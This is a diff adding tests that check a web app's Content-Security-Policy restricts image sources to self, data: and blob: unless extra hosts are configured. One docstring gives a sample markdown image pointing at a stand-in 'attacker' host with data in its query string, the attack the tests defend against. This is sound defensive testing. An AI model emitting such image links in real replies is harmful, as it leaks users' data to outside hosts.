@@ -66,3 +66,32 @@ async def test_without_configured_origins_there_is_no_cors(live: Live) -> None:
     async with live.client(user=None) as http:
         response = await http.get("/healthz", headers={"Origin": ORIGIN})
     assert "access-control-allow-origin" not in response.headers
+
+
+def _img_src(csp: str) -> list[str]:
+    [directive] = [d.split() for d in csp.split(";") if d.split()[:1] == ["img-src"]]
+    return directive[1:]
+
+
+async def test_the_page_loads_no_remote_image_by_default(live: Live) -> None:
+    """A reply's ``![x](https://attacker/?d=…)`` must not load (and leak) without a click."""
+    async with live.client(user=None) as http:
+        page = await http.get("/")
+    assert _img_src(page.headers["content-security-policy"]) == ["'self'", "data:", "blob:"]
+
+
+@pytest.mark.parametrize(
+    "settings_overrides",
+    [{"image_hosts": ["images.example.com", "*.cdn.example", "http://lan:8080"]}],
+)
+async def test_listed_image_hosts_extend_the_pages_img_src(live: Live) -> None:
+    async with live.client(user=None) as http:
+        page = await http.get("/")
+    assert _img_src(page.headers["content-security-policy"]) == [
+        "'self'",
+        "data:",
+        "blob:",
+        "https://images.example.com",
+        "https://*.cdn.example",
+        "http://lan:8080",
+    ]
